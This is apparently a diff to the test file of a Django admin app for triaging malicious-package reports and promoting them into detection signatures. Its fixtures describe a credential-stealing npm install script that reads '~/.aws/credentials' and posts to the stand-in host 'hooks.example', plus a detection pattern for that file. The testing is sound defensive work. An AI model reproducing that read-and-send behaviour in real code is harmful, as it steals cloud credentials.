@@ -129,7 +129,7 @@ def test_report_without_hash_or_version_cannot_be_verified_until_the_analyst_nam
     assert report.status == "submitted" and not Threat.objects.exists()
     response = analyst.post(f"/admin/intel/report/{report.pk}/change/",
                             {"ecosystem": "npm", "package_name": "AWS-Helper-Utils", "package_version": "1.2.3",
-                             "reviews-TOTAL_FORMS": "0", "reviews-INITIAL_FORMS": "0"})
+                             "change_reason": "The tarball name says which package"})
     assert response.status_code == 302
     report.refresh_from_db()
     assert report.package_name == "aws-helper-utils"
@@ -177,12 +177,13 @@ PROMOTE = {
     "pattern": r"\.aws/credentials", "severity": "critical", "weight": "10", "ecosystem": "npm",
     "file_globs": "*.js, package.json", "reason": "Generalises to the family",
 }
+EVIDENCE = ["install.js:3 fs.readFileSync(os.homedir() + '/.aws/credentials')", "install.js:9 https.request('https://hooks.example')"]
 
 
 def test_analyst_promotes_a_report_into_a_signature(analyst, alice, carol):
     from signatures.models import Signature
 
-    report = make_report(alice)
+    report = make_report(alice, evidence=EVIDENCE)
     act(analyst, "start_review", [report])
     url = f"/admin/intel/report/{report.pk}/promote/"
     assert analyst.get(url).status_code == 200
@@ -210,9 +211,9 @@ def test_promotion_shows_the_pattern_error_for_an_invalid_re2_pattern(analyst, a
 def test_a_submitted_report_cannot_be_promoted_yet(analyst, alice):
     from signatures.models import Signature
 
-    report = make_report(alice)
+    report = make_report(alice, evidence=EVIDENCE)
     response = analyst.post(f"/admin/intel/report/{report.pk}/promote/", PROMOTE)
-    assert response.status_code == 200 and not Signature.objects.exists()
+    assert response.status_code == 302 and not Signature.objects.exists()
 
 
 def test_promotion_needs_the_add_signature_permission(client, alice):
